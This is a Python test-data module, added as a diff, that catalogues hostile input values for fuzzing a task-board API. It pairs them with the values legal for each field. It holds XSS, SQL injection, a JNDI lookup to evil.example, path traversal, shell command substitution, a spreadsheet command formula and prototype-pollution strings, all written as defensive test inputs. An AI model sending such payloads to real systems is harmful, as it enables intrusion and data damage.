@@ -1,0 +1,330 @@
+"""Hostile values, and what is legal for each kind of field: by hand, from the contract."""
+
+import json
+from typing import Any
+
+from tests.conftest import PASSWORD
+
+UNKNOWN = "019a3f5e-7c1d-7b1e-9a53-0f2b7f6f1c11"
+# Planted in the values; no answer that refuses one may hold either of them.
+MARK, DIGITS = "zqmark", "3141592"
+
+TEXTS = {
+    "NUL": f"{MARK}\0x",
+    "NUL alone": "\0",
+    "empty": "",
+    "blank": " \u2003\n\t",
+    "one character": "x",
+    "right to left": f"{MARK}\u202e\u05d0\u0647\u202c",
+    "zero width": f"{MARK}\u200b\u200d\ufeff\u2060",
+    "combining flood": MARK + "\u0301" * 100,
+    "emoji of seven code points": MARK + "\u200d".join("\U0001f468\U0001f469\U0001f467\U0001f466"),
+    "noncharacters": f"{MARK}\uffff\U0010ffff\ufdd0",
+    "control characters": f"{MARK}\x01\x1b[31m\x7f\x85",
+    "line breaks": f"{MARK}\r\nSet-Cookie: session=x\r\n\r\n",
+    "decomposed": f"{MARK}e\u0301\u212b\ufb03",
+    "HTML": f"<script>alert('{MARK}')</script>",
+    "HTML attribute": f'"><img src=x onerror="{MARK}()">',
+    "HTML entities": f"&lt;{MARK}&#0;&amp;",
+    "SQL": f"'; DROP TABLE users; --{MARK}",
+    "SQL condition": f"{MARK}' OR '1'='1",
+    "SQL pattern": f"%_{MARK}\\",
+    "SQL parameters": f"$1 :x %(y)s ? {MARK}",
+    "template": f"{{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{{MARK}}}",
+    "format string": f"%s%n%x {{0.__class__}} {MARK}",
+    "lookup": f"${{jndi:ldap://evil.example/{MARK}}}",
+    "path": f"../../../../etc/{MARK}%00",
+    "Windows path": f"..\\..\\{MARK}\\CON",
+    "two dots": "..",
+    "shell": f"$(touch {MARK}) `{MARK}` | & ;",
+    "formula": f"=cmd|' /C calc'!A0 {MARK}",
+    "JSON": f'{{"{MARK}": 1}}',
+    "null in quotes": "null",
+    "true in quotes": "true",
+    "NaN in quotes": "NaN",
+    "number in quotes": f"{DIGITS}653",
+    "one in quotes": "1",
+    "one with a plus": "+1",
+    "one with a zero": "01",
+    "one with blanks": " 1 ",
+    "one with an underscore": "1_0",
+    "one with a fraction": "1.0",
+    "one in Arabic": "\u0661",
+    "one in full width": "\uff11",
+    "255 characters": f"{MARK}{'x' * 249}",
+    "255 astral characters": "\U0001f600" * 255,
+    "256 characters": f"{MARK}{'x' * 250}",
+    "10,000 characters": f"{MARK}{'x' * 9994}",
+    "10,001 characters": f"{MARK}{'x' * 9995}",
+    # Ids, all of nobody.
+    "id": UNKNOWN,
+    "id in upper case": UNKNOWN.upper(),
+    "id in braces": f"{{{UNKNOWN}}}",
+    "id as a URN": f"urn:uuid:{UNKNOWN}",
+    "id without hyphens": UNKNOWN.replace("-", ""),
+    "id of 31 digits": UNKNOWN[:-1],
+    "id of 33 digits": f"{UNKNOWN}1",
+    "id with a blank": f"{UNKNOWN} ",
+    "id with a line break": f"{UNKNOWN}\n",
+    "id with NUL": f"{UNKNOWN}\0",
+    "id in full width": UNKNOWN.replace("019", "\uff10\uff11\uff19"),
+    "id of zeros": "00000000-0000-0000-0000-000000000000",
+    "id of ones": "ffffffff-ffff-ffff-ffff-ffffffffffff",
+    # Times.
+    "naive time": "2026-05-01T12:00:00",
+    "date": "2026-05-01",
+    "time of day": "12:00:00Z",
+    "leap second": "2026-06-30T23:59:60Z",
+    "hour 24": "2026-05-01T24:00:00Z",
+    "30 February": "2026-02-30T12:00:00Z",
+    "29 February of no leap year": "1900-02-29T12:00:00Z",
+    "year 0": "0000-01-01T00:00:00Z",
+    "year 1": "0001-01-01T00:00:00Z",
+    "year 1 with an offset": "0001-01-01T00:00:00+14:00",
+    "year 9999": "9999-12-31T23:59:59.999999Z",
+    "year 9999 with an offset": "9999-12-31T23:59:59-01:00",
+    "year 10000": "10000-01-01T00:00:00Z",
+    "year before 0": "-0001-01-01T00:00:00Z",
+    "offset of 45 minutes": "2026-05-01T12:00:00+05:45",
+    "offset of zero below": "2026-05-01T12:00:00-00:00",
+    "offset of a day": "2026-05-01T12:00:00+24:00",
+    "offset of 99 hours": "2026-05-01T12:00:00+99:99",
+    "offset without colon": "2026-05-01T12:00:00+0200",
+    "offset by name": "2026-05-01T12:00:00 Europe/Warsaw",
+    "nanoseconds": "2026-05-01T12:00:00.123456789Z",
+    "time in small letters": "2026-05-01t12:00:00z",
+    "time with a line break": "2026-05-01T12:00:00Z\n",
+    "time in Arabic digits": "٢٠٢٦-05-01T12:00:00Z",
+    # Colours, addresses, pictures, roles.
+    "colour": "#2f80eD",
+    "colour without #": "2f80ed",
+    "colour of three digits": "#28e",
+    "colour with alpha": "#2f80edff",
+    "colour with a line break": "#2f80ed\n",
+    "colour with CSS": f"red;{MARK}",
+    "e-mail": f"{MARK}@example.com",
+    "e-mail with a plus": f"{MARK}+a'b@example.com",
+    "e-mail of another script": f"{MARK}жук@почта.example",
+    "e-mail without domain": f"{MARK}@",
+    "e-mail with two @": f"{MARK}@a@example.com",
+    "e-mail with a name": f"A <{MARK}@example.com>",
+    "e-mail with a header": f"{MARK}@example.com\nBcc:x@example.com",
+    "e-mail with zero width": f"{MARK}\u200b@example.com",
+    "https address": f"https://pictures.example/{MARK}.png?a=1&b=%20",
+    "http address": f"http://pictures.example/{MARK}",
+    "script address": f"javascript:alert('{MARK}')",
+    "data address": f"data:text/html,{MARK}",
+    "address of no scheme": f"//evil.example/{MARK}",
+    "address with a line break": f"https://pictures.example/{MARK}\n",
+    "drawn picture": f"/api/avatars/{MARK}.svg",
+    "path of another file": f"/api/avatars/../{MARK}.svg",
+    "role of a member": "MEMBER",
+    "role of a moderator": "MODERATOR",
+    "role of the creator": "CREATOR",
+    "role in small letters": "member",
+    "role with a blank": "MEMBER ",
+    "priority": "HIGH",
+    "status": "IN_PROGRESS",
+}
+
+# Everything else, as it stands in the body.
+NUMBERS = {
+    "zero": "0",
+    "minus zero": "-0",
+    "minus zero as a float": "-0.0",
+    "zero as a float": "0.0",
+    "one": "1",
+    "one as a float": "1.0",
+    "one with an exponent": "1e0",
+    "minus one": "-1",
+    "float": f"{DIGITS}.5",
+    "large": "2147483647",
+    "too large": "2147483648",
+    "beyond 64 bits": f"{DIGITS}{'0' * 20}",
+    "4,000 digits": DIGITS + "9" * 3993,
+    "1e400": "1e400",
+    "-1e400": "-1e400",
+    "1e-400": "1e-400",
+    "a time as a number": f"{DIGITS}653",
+}
+OTHERS = {
+    "null": "null",
+    "true": "true",
+    "false": "false",
+    "array": "[]",
+    "array of a text": f'["{MARK}"]',
+    "array of null": "[null]",
+    "object": "{}",
+    "object of a text": f'{{"{MARK}": "{MARK}"}}',
+    "object with an operator": f'{{"$ne": "{MARK}"}}',
+    "object with duplicate keys": f'{{"a": "{MARK}", "a": 1}}',
+    "object with a prototype": f'{{"__proto__": {{"is_admin": true, "{MARK}": 1}}}}',
+    "array of arrays": "[" * 150 + "]" * 150,
+}
+NO_JSON = {
+    "lone surrogate": f'"{MARK}\\ud800"',
+    "lone surrogate, the second half": f'"{MARK}\\udc00"',
+    "surrogates in the wrong order": f'"{MARK}\\udc00\\ud800"',
+    "NaN": "NaN",
+    "Infinity": "Infinity",
+    "-Infinity": "-Infinity",
+    "10,000 digits": DIGITS + "9" * 9993,
+    "hexadecimal": "0x1F",
+    "plus": "+1",
+    "leading zero": "01",
+    "no digit before the point": ".5",
+    "Python's True": "True",
+    "single quotes": f"'{MARK}'",
+    "line break in a text": f'"{MARK}\n"',
+    "bad escape": f'"{MARK}\\x41"',
+    "no end": f'"{MARK}',
+    "comment": f'1 /* {MARK} */',
+    "trailing comma": "[1,]",
+    "arrays without end": "[" * 100_000,
+    "arrays, 100,000 deep": "[" * 100_000 + "]" * 100_000,
+    "objects, 1,000 deep": '{"a":' * 1000 + "1" + "}" * 1000,
+    "nothing": "",
+}  # fmt: skip
+
+TEXTS_IN_JSON = {name: json.dumps(value, ensure_ascii=False) for name, value in TEXTS.items()}
+VALUES = {**TEXTS_IN_JSON, **NUMBERS, **OTHERS, **NO_JSON}
+
+
+def texts(least: int, most: int) -> set[str]:
+    """Those of so many characters, without U+0000."""
+    return {name for name, value in TEXTS.items() if least <= len(value) <= most} - {
+        "NUL", "NUL alone", "id with NUL",
+    }  # fmt: skip
+
+
+IDS = {
+    "id", "id in upper case", "id in braces", "id as a URN", "id without hyphens", "id of zeros",
+    "id of ones",
+}  # fmt: skip
+PASSWORDS = {name for name, value in TEXTS.items() if 8 <= len(value) <= 128}
+
+# What is legal for each kind of field.
+LEGAL: dict[str, set[str]] = {
+    "title": texts(1, 255) - {"blank"},
+    "description": texts(0, 10_000) | {"null"},
+    "position": {"zero", "minus zero", "one", "large"},
+    "flag": {"true", "false"},
+    "colour": {"colour", "null"},
+    "time": {
+        "null", "year 1", "year 9999", "offset of 45 minutes", "offset of zero below",
+        "nanoseconds", "time in small letters",
+    },
+    "priority": {"priority"},
+    "status": {"status"},
+    "role": {"role of a member", "role of a moderator", "role of the creator"},
+    "role to add": {"role of a member", "role of a moderator"},
+    "id": IDS,
+    "username": {
+        "combining flood", "null in quotes", "true in quotes", "NaN in quotes",
+        "number in quotes", "one with an underscore", "one with a fraction",
+        "decomposed", "date", "id", "id in upper case", "id without hyphens",
+        "id of 31 digits", "id of 33 digits", "id in full width", "id of zeros", "id of ones",
+        "role of a member", "role of a moderator", "role of the creator", "role in small letters",
+        "priority", "status", "colour without #",
+    },
+    "e-mail": {"e-mail", "e-mail with a plus", "e-mail of another script"},
+    "picture": {"https address", "drawn picture", "null"},
+    "password": PASSWORDS,
+    "password asked": {name for name, value in TEXTS.items() if len(value) <= 128},
+    "name asked": texts(0, 255),
+    "name of a member": texts(0, 150),
+    "e-mail of a member": texts(0, 255),
+}  # fmt: skip
+
+# Which of them are tried where each costs a hash of a password.
+DEAR = {
+    "NUL", "NUL alone", "empty", "blank", "right to left", "combining flood", "decomposed", "SQL",
+    "emoji of seven code points", "control characters", "255 characters", "id", "e-mail",
+}  # fmt: skip
+HASHED = {"password", "password asked", "name asked"}
+
+# What each field is, and what is sent for it while another one is tried.
+FIELDS: dict[str, tuple[str, Any]] = {
+    "username": ("username", "newcomer"),
+    "email": ("e-mail", "newcomer@example.com"),
+    "password": ("password", "a lighthouse at dawn"),
+    "current_password": ("password asked", PASSWORD),
+    "new_password": ("password", "a lighthouse at dawn"),
+    "is_admin": ("flag", False),
+    "avatar_url": ("picture", None),
+    "title": ("title", "Title"),
+    "description": ("description", None),
+    "is_public": ("flag", True),
+    "color": ("colour", None),
+    "position": ("position", 0),
+    "due_date": ("time", None),
+    "priority": ("priority", "LOW"),
+    "status": ("status", "TODO"),
+    "is_completed": ("flag", False),
+    "role": ("role", "MEMBER"),
+    "user_id": ("id", UNKNOWN),
+    "board_id": ("id", "{board}"),
+    "column_id": ("id", "{column}"),
+    "task_id": ("id", "{task}"),
+}
+ELSEWHERE = {
+    ("login_user", "username"): "name asked",
+    ("login_user", "password"): "password asked",
+    ("add_board_user", "username"): "name of a member",
+    ("add_board_user", "email"): "e-mail of a member",
+    ("add_board_user", "role"): "role to add",
+}
+# The one body that needs any of several fields.
+WAYS = {"user_id", "username", "email"}
+
+# What a legal value is answered with where it isn't simply kept: nobody has that name or id.
+ASKED = {
+    ("login_user", "username"): 401,
+    ("login_user", "password"): 401,
+    ("change_password", "current_password"): 403,
+    ("change_password", "new_password"): 204,
+    ("reset_password", "new_password"): 204,
+    ("add_board_user", "user_id"): 422,
+    ("add_board_user", "username"): 422,
+    ("add_board_user", "email"): 422,
+    ("create_column", "board_id"): 404,
+    ("create_task", "column_id"): 404,
+    ("update_task", "column_id"): 404,
+    ("create_subtask", "task_id"): 404,
+}
+# What is kept of a legal value where it isn't the value itself.
+KEPT: dict[tuple[str, str], Any] = {
+    ("time", "offset of 45 minutes"): "2026-05-01T06:15:00Z",
+    ("time", "offset of zero below"): "2026-05-01T12:00:00Z",
+    ("time", "nanoseconds"): "2026-05-01T12:00:00.123456Z",
+    ("time", "time in small letters"): "2026-05-01T12:00:00Z",
+    ("picture", "null"): "/api/avatars/newcomer.svg",
+}
+
+# What is legal for each kind of parameter.
+PARAMETERS = {
+    **dict.fromkeys(
+        ("user_id", "board_id", "column_id", "task_id", "subtask_id", "session_id"), "id"
+    ),
+    "limit": "limit",
+    "cursor": "cursor",
+    "name": "name",
+}
+LEGAL_PARAMETERS = {
+    "id": IDS,
+    "limit": {"one", "one in quotes"},
+    "cursor": set[str](),
+    "name": {  # anything that is one part of a path, up to 150 characters
+        name
+        for name in VALUES
+        if name not in {
+            "nothing", "empty", "255 characters", "255 astral characters", "256 characters",
+            "10,000 characters", "10,001 characters", "4,000 digits", "10,000 digits",
+            "array of arrays", "arrays without end", "arrays, 100,000 deep", "objects, 1,000 deep",
+        }
+    },
+}  # fmt: skip
+# What only an address can hold, encoded as it stands here.
+ENCODED = {"bad UTF-8": "%ff", "overlong NUL": "%c0%80", "half a surrogate": "%ed%a0%80",
+           "cut escape": "%", "wrong escape": "%zz", "escaped twice": "%2500"}  # fmt: skip
+LONGEST = 20_000  # more than that no client sends; see the floods below
